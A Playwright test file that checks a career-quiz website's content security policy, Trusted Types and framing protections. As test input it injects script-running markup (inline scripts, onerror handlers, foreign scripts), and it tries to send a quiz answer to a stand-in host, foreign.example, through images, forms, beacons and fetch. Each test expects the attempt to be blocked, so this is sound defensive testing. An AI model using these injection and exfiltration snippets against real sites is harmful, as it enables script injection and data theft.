import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { serve } from '../../src/cli/serve.mjs';
import { expect, interactive, test } from './fixture';
import { otherSite, type OtherSite } from './other-site';

const CODE = 'E8wQMgIAuREQI5ENLuvBZAvMgXmQLzIGC-C_kBgZAwZAYAAMGQGBkC8yBeDINnc';

/** One of each kind of page. */
const PAGES = [
  ['home', '/'],
  ['a quiz', '/quiz/medical-records'],
  ['an adaptive quiz', '/quiz/career-explorer'],
  ['a career’s own quiz', '/quiz/fit/29-2072.00'],
  ['results', `/results#${CODE}`],
  ['results without answers', '/results'],
  ['all careers', '/careers'],
  ['a career', '/careers/29-2072.00'],
  ['careers side by side', '/compare?soc=29-2072.00&soc=29-1141.00'],
  ['trying a quiz', '/try'],
  ['methodology', '/methodology'],
  ['about', '/about'],
  ['not found', '/nowhere'],
  ['a kiosk', '/kiosk'],
  ['without a network', '/offline/'],
  ['a framed quiz', '/embed/medical-records'],
  ['a framed quiz about one career', '/embed/fit/29-2072.00'],
] as const;

/** Of these, what nobody may frame. */
const UNFRAMED = PAGES.filter(([, address]) => !address.startsWith('/embed/'));

let other: OtherSite;
test.beforeAll(async () => {
  other = await otherSite();
});
test.afterAll(() => other.close());

test.describe('no page breaks the policy that it is sent with', () => {
  test.use({ expectedError: /404 \(Not Found\).*\/nowhere/ });
  for (const [name, address] of PAGES) {
    test(name, async ({ page }) => {
      const response = await page.goto(address);
      expect(response?.headers()['content-security-policy']).toContain("require-trusted-types-for 'script'");
      await interactive(page);
      await page.waitForLoadState('networkidle');
      // The fixture fails the test on a violation; this shows that one would have been seen.
      expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
    });
  }
});

interface Marked extends Window {
  ran?: string;
  violations?: string[];
}

/** Collects what the policy stops on the page, in words. */
async function collect(page: Page) {
  await page.addInitScript(() => {
    const violations: string[] = ((window as Marked).violations = []);
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
}
const violations = (page: Page) => page.evaluate(() => (window as Marked).violations ?? []);
const ran = (page: Page) => page.evaluate(() => (window as Marked).ran);

const INJECTED = [
  ['an inline script', '<script>window.ran = "inline";</script>', 'script-src-elem inline'],
  ['an event handler', '<img src="/none.png" alt="" onerror="window.ran = 1">', 'script-src-attr inline'],
  ['a foreign script', '<script src="FOREIGN/foreign.js"></script>', 'script-src-elem FOREIGN/foreign.js'],
  ['a foreign picture', '<img src="FOREIGN/favicon.ico" alt="">', 'img-src FOREIGN/favicon.ico'],
  ['an inline style', '<style>body { display: none; }</style>', 'style-src-elem inline'],
  ['a foreign frame', '<iframe src="FOREIGN/favicon.ico"></iframe>', 'frame-src FOREIGN'],
  ['a plug-in', '<object data="/favicon.svg"></object>', 'object-src ORIGIN/favicon.svg'],
  ['another base for links', '<base href="FOREIGN/">', 'base-uri FOREIGN/'],
] as const;

const HOSTS = [
  ['with the headers of our server', true],
  ['with the meta tag alone, where a host sends no headers', false],
] as const;

for (const [host, headers] of HOSTS) {
  test.describe(`markup that got into a page, ${host},`, () => {
    test.use({ expectedError: /Content Security Policy|policy violation|404|Applying inline style/ });
    test('runs no script, fetches nothing from elsewhere and changes no style', async ({ page, baseURL }) => {
      await collect(page);
      const origin = headers ? (baseURL ?? '') : other.origin;
      const filled = (text: string) =>
        text.replaceAll('FOREIGN', 'http://foreign.example').replaceAll('ORIGIN', origin);
      await page.route(`${origin}/about`, async (route) => {
        const response = await route.fetch();
        expect(response.headers()['content-security-policy'] !== undefined).toBe(headers);
        const markup = INJECTED.map(([, one]) => filled(one)).join('');
        const body = (await response.text()).replace('</body>', () => `${markup}</body>`);
        await route.fulfill({ response, body });
      });
      await page.goto(`${origin}/about`);
      await interactive(page);
      const stopped = await violations(page);
      const missed = INJECTED.filter(([, , one]) => !stopped.includes(filled(one)));
      expect(missed.map(([name]) => name)).toEqual([]);
      expect(await ran(page)).toBeUndefined();
    });
  });
}

test.describe('without any policy', () => {
  test.use({ expectedError: /404/ });
  test('the same markup runs, so that the tests above show something', async ({ page }) => {
    for (const [, markup] of INJECTED.slice(0, 3)) {
      await page.goto(
        other.page(markup.replaceAll('FOREIGN', other.origin.replace('127.0.0.1', 'localhost'))),
      );
      await expect.poll(() => ran(page)).toBeTruthy();
    }
  });
});

for (const [host, headers] of HOSTS) {
  test.describe(`a script that got in, ${host},`, () => {
    test.use({ expectedError: /Content Security Policy|policy violation|Trusted|Refused|Fetch API/ });
    test('cannot make text into code, markup into a page, or a policy of its own', async ({
      page,
      baseURL,
    }) => {
      await page.goto(`${headers ? (baseURL ?? '') : other.origin}/about`);
      await interactive(page);
      const outcomes = await page.evaluate(async () => {
        const target = document.createElement('div');
        const script = document.createElement('script');
        const call = (of: object, name: string, ...values: unknown[]) =>
          (Reflect.get(of, name) as (...all: unknown[]) => unknown).apply(of, values);
        const attempts: Record<string, () => unknown> = {
          eval: () => call(window, 'eval', 'window.ran = "eval"'),
          Function: () => call(window, 'Function', 'window.ran = "Function"'),
          setTimeout: () => call(window, 'setTimeout', 'window.ran = "setTimeout"', 0),
          innerHTML: () => (target.innerHTML = '<img src="x" onerror="window.ran = 1">'),
          insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
          write: () => call(document, 'write', '<b></b>'),
          parser: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
          srcdoc: () => (document.createElement('iframe').srcdoc = '<b></b>'),
          'text of a script': () => (script.text = 'window.ran = "text"'),
          'address of a script': () => (script.src = '/assets/x.js'),
          worker: () => new Worker('/assets/x.js'),
          policy: () => call(Reflect.get(window, 'trustedTypes') as object, 'createPolicy', 'mine', {}),
        };
        // What the test's own call runs may eval; what comes after it may not.
        await new Promise((later) => setTimeout(later, 0));
        return Object.entries(attempts).map(([name, attempt]) => {
          try {
            attempt();
            return `${name} went through`;
          } catch {
            return `${name} stopped`;
          }
        });
      });
      expect(outcomes.filter((one) => !one.endsWith('stopped'))).toEqual([]);
      expect(outcomes).toHaveLength(12);
      expect(await ran(page)).toBeUndefined();
    });

    test('cannot send an answer to another site', async ({ page, baseURL }) => {
      await collect(page);
      await page.goto(`${headers ? (baseURL ?? '') : other.origin}/about`);
      await interactive(page);
      const outcome = await page.evaluate(async () => {
        const to = 'http://foreign.example';
        new Image().src = `${to}/picture?answer`;
        const form = document.createElement('form');
        form.action = `${to}/form?answer`;
        document.body.append(form);
        form.submit();
        navigator.sendBeacon(`${to}/beacon`, 'answer');
        return fetch(`${to}/fetch?answer`).then(
          () => 'sent',
          () => 'stopped',
        );
      });
      expect(outcome).toBe('stopped');
      // A form goes its way after the script, so its turn comes a little later.
      const stopped = async () => [
        ...new Set((await violations(page)).map((one) => one.replace(/\?.*/, ''))),
      ];
      await expect
        .poll(async () => (await stopped()).sort())
        .toEqual([
          'connect-src http://foreign.example/beacon',
          'connect-src http://foreign.example/fetch',
          'form-action http://foreign.example/form',
          'img-src http://foreign.example/picture',
        ]);
      expect(new URL(page.url()).pathname).toBe('/about');
    });
  });
}

test.describe('framing', () => {
  test.use({ expectedError: /frame-ancestors|ERR_BLOCKED_BY_RESPONSE|404|policy violation/ });

  const frame = (address: string, attributes = '') =>
    `<iframe src="${address}" width="360" height="640" ${attributes}></iframe>`;

  test('no other page is shown in a frame of another site', async ({ page, baseURL }) => {
    const frames = UNFRAMED.map(([, address]) => frame(`${baseURL ?? ''}${address}`));
    await page.goto(other.page(frames.join('')));
    const shown = () =>
      page
        .frames()
        .slice(1)
        .filter((one) => !one.url().startsWith('chrome-error:'));
    expect(page.frames()).toHaveLength(UNFRAMED.length + 1);
    await expect.poll(() => shown().map((one) => one.url())).toEqual([]);
  });

  const hosts = [
    ['a plain page', (address: string) => frame(address), {}],
    [
      'a page that gives it scripts and nothing else',
      (address: string) => frame(address, 'sandbox="allow-scripts"'),
      {},
    ],
    [
      'a page that is sandboxed itself',
      (address: string) => `<iframe sandbox="allow-scripts" srcdoc='${frame(address)}'></iframe>`,
      {},
    ],
    [
      'an isolated page',
      (address: string) => frame(address),
      { 'Cross-Origin-Embedder-Policy': 'require-corp' },
    ],
    [
      'an isolated page that gives it scripts and nothing else',
      (address: string) => frame(address, 'sandbox="allow-scripts"'),
      { 'Cross-Origin-Embedder-Policy': 'require-corp', 'Cross-Origin-Opener-Policy': 'same-origin' },
    ],
  ] as const;
  for (const [name, body, headers] of hosts) {
    test(`a quiz for frames runs in ${name}`, async ({ page, baseURL }) => {
      const address = `${baseURL ?? ''}/embed/medical-records`;
      await page.goto(other.page(body(address), headers));
      const framed = () => page.frames().find((one) => one.url() === address);
      await expect.poll(() => framed()?.url()).toBe(address);
      const quiz = framed();
      if (!quiz) throw new Error('no frame');
      await quiz.locator('#root[data-ready]').waitFor({ state: 'attached' });
      await expect(quiz.getByRole('radio').first()).toBeVisible();
    });
  }

  test('is for the listed sites only, where the operator lists some', async ({ page }) => {
    const folder = mkdtempSync(join(tmpdir(), 'fitpath-framing-'));
    mkdirSync(join(folder, 'embed/x'), { recursive: true });
    writeFileSync(join(folder, 'embed/x/index.html'), '<!doctype html><title>x</title><h1>A quiz</h1>');
    const stranger = await otherSite();
    writeFileSync(join(folder, 'headers.json'), JSON.stringify({ frameHosts: [other.origin] }));
    const site = await serve({ port: 0, dist: folder });
    const address = `${site.url}embed/x`;
    await page.goto(other.page(frame(address)));
    await expect(page.frameLocator('iframe').getByRole('heading', { name: 'A quiz' })).toBeVisible();
    await page.goto(stranger.page(frame(address)));
    await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
    await Promise.all([site.close(), stranger.close()]);
    rmSync(folder, { recursive: true });
  });
});

test('a window that another site opens is out of its reach', async ({ page, baseURL }) => {
  await page.goto(other.page(`<a href="${baseURL ?? ''}/about" target="ours" rel="opener">Fitpath</a>`));
  const [opened] = await Promise.all([page.waitForEvent('popup'), page.getByRole('link').click()]);
  await interactive(opened);
  expect(await opened.evaluate(() => window.opener as unknown)).toBeNull();
});

test('where a host sends no headers the site works all the same', async ({ page }) => {
  await page.goto(`${other.origin}/quiz/medical-records`);
  await interactive(page);
  await page.getByRole('radio').first().click();
  await expect(page.getByText(/Question 2 of/)).toBeVisible();
});
